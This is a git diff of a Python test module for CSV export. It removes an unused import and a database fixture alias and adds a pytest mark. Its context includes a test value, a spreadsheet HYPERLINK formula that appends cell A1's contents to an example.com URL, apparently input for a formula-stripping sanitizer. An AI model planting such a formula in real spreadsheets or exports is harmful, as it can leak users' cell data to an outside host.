@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Callable
 from datetime import date
 from decimal import Decimal
 
@@ -22,13 +21,9 @@ from shared.facts.series import put_series
 from shared.files.formulas import without_formula
 from tests.api.test_lineage import VALUE
 
+pytestmark = pytest.mark.begins_with("landskrona")
 TODAY = date(2016, 5, 20)
 FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Öppna")'
-
-
-@pytest.fixture(scope="session")
-def new_database(landskrona_database: Callable[[], str]) -> Callable[[], str]:
-    return landskrona_database
 
 
 @pytest.fixture
